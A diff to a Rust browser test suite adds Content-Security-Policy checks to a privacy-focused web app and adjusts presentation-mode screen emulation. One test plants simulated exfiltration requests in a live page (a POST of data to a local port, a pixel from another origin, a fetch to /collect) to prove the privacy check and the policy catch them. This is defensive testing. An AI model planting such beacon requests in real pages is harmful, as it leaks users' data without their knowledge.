@@ -405,6 +405,18 @@ fn journey(driver: &Driver, server: &StaticServer, webgpu: bool) -> Result<Vec<f
         foreign.is_empty(),
         "requests beyond the page's own assets: {foreign:?}"
     );
+    // The page carries a Content-Security-Policy (written at build time) and nothing it did
+    // broke it: the browser logs every violation.
+    let page = std::fs::read_to_string(root().join("dist/index.html"))?;
+    ensure!(
+        page.contains("http-equiv=\"Content-Security-Policy\""),
+        "the built page has no Content-Security-Policy"
+    );
+    let console = session.console();
+    ensure!(
+        !console.contains("Content Security Policy"),
+        "Content-Security-Policy violations: {console}"
+    );
     eprintln!(
         "{}: {} requests, all to the page's own assets",
         if webgpu { "webgpu" } else { "cpu" },
@@ -751,24 +763,39 @@ fn hostile_files_are_answered_one_by_one() -> Result<()> {
 /// The privacy check can fail: a request planted in a live page (a POST to another port of
 /// this host, an image from another origin, a fetch of a same-origin path that is no asset)
 /// is seen by the same record and check `journey` uses, so "no foreign request" there means
-/// none was made, not that none could be seen.
+/// none was made, not that none could be seen. The planting page has its
+/// Content-Security-Policy taken out (that policy would block the requests first); with the
+/// policy in place the browser refuses the cross-origin request and logs the violation.
 #[test]
 fn a_planted_foreign_request_is_caught() -> Result<()> {
     ensure!(
         root().join("dist/index.html").exists(),
         "build the app first: cargo xtask build"
     );
+    let plant = "fetch('http://127.0.0.1:9/upload', {method: 'POST', body: 'cell', mode: 'no-cors'}).catch(() => {}); \
+          new Image().src = 'http://example.invalid/pixel.png'; \
+          fetch('/collect?cell=1').catch(() => {}); return null;";
+    let without_csp = broken_dist("dist-without-csp", |d| {
+        let page = std::fs::read_to_string(d.join("index.html"))?;
+        let start = page
+            .find("<meta http-equiv=\"Content-Security-Policy\"")
+            .context("no policy")?;
+        let end = start + page[start..].find("/>").context("meta end")? + 2;
+        std::fs::write(
+            d.join("index.html"),
+            format!("{}{}", &page[..start], &page[end..]),
+        )?;
+        Ok(())
+    })?;
     let driver = Driver::start()?;
-    let server = StaticServer::start(root().join("dist"))?;
+    let server = StaticServer::start(without_csp.clone())?;
     let s = driver.session(false)?;
     s.goto(&server.url)?;
     open(&s)?;
-    s.js("fetch('http://127.0.0.1:9/upload', {method: 'POST', body: 'cell', mode: 'no-cors'}).catch(() => {}); \
-          new Image().src = 'http://example.invalid/pixel.png'; \
-          fetch('/collect?cell=1').catch(() => {}); return null;")?;
+    s.js(plant)?;
     std::thread::sleep(Duration::from_secs(2));
     let requests = s.requested_urls()?;
-    let foreign = foreign_requests(&requests, &server.url, &own_assets(&root().join("dist"))?);
+    let foreign = foreign_requests(&requests, &server.url, &own_assets(&without_csp)?);
     for planted in [
         "http://127.0.0.1:9/upload",
         "http://example.invalid/pixel.png",
@@ -781,6 +808,19 @@ fn a_planted_foreign_request_is_caught() -> Result<()> {
     ensure!(
         foreign.iter().any(|u| u.contains("/collect?cell=1")),
         "a same-origin request for no asset was not caught: {foreign:?}"
+    );
+
+    // The real page: the policy stops the cross-origin POST, and says so.
+    let server = StaticServer::start(root().join("dist"))?;
+    let s = driver.session(false)?;
+    s.goto(&server.url)?;
+    open(&s)?;
+    s.js(plant)?;
+    std::thread::sleep(Duration::from_secs(2));
+    let console = s.console();
+    ensure!(
+        console.contains("Content Security Policy") && console.contains("127.0.0.1:9"),
+        "the policy did not stop the planted request: {console}"
     );
     Ok(())
 }
@@ -803,7 +843,15 @@ fn presentation_mode_steps_through_cells_by_key() -> Result<()> {
     open(&s)?;
     s.upload_many("file-input", &cells)?;
     s.wait_for("three cells", LOAD, |s| Ok(cell_count(s)? == 3))?;
-    s.set_window_size(1920, 1080)?;
+    // Full screen takes the headless screen's size: set the screen (viewport) to the hall's.
+    let screen = |s: &Session, width: u32, height: u32| {
+        s.cdp(
+            "Emulation.setDeviceMetricsOverride",
+            serde_json::json!({"width": width, "height": height, "deviceScaleFactor": 1, "mobile": false,
+                "screenWidth": width, "screenHeight": height}),
+        )
+    };
+    screen(&s, 1920, 1080)?;
     s.click("present")?;
     s.wait_for("presentation mode", Duration::from_secs(10), |s| {
         Ok(s.attr("present-bar", "data-testid")?.is_some())
@@ -836,12 +884,24 @@ fn presentation_mode_steps_through_cells_by_key() -> Result<()> {
         Ok(s.find("cell-panel")?.is_some())
     })?;
     s.screenshot("present-1920x1080")?;
-    s.set_window_size(1280, 720)?;
+    // A 1280×720 projector (a new screen size may end full screen, and with it presentation
+    // mode: enter again if so).
+    screen(&s, 1280, 720)?;
+    if s.find("present")?.is_some() {
+        s.click("present")?;
+    }
+    s.wait_for("presentation mode", Duration::from_secs(10), |s| {
+        Ok(s.js("return document.querySelector('main').dataset.presenting")? == "true")
+    })?;
     s.screenshot("present-1280x720")?;
     // I: the keyboard lands on an intervention selector.
     s.press("i")?;
     let focused = s.js("const a = document.activeElement; return a && a.tagName === 'SELECT' && !!a.closest('[data-testid=cell-panel]')")?;
-    ensure!(focused == true, "I did not focus the what-if selectors");
+    let active = s.js("const a = document.activeElement; const sel = document.querySelectorAll('[data-testid=cell-panel] .attribute select').length; return [a ? a.tagName : null, sel, document.querySelector('main').dataset.presenting]")?;
+    ensure!(
+        focused == true,
+        "I did not focus the what-if selectors; focus is on {active}"
+    );
     s.press("\u{E00C}")?;
     s.wait_for("presentation left", Duration::from_secs(10), |s| {
         Ok(s.js("return document.querySelector('main').dataset.presenting")? == "false")
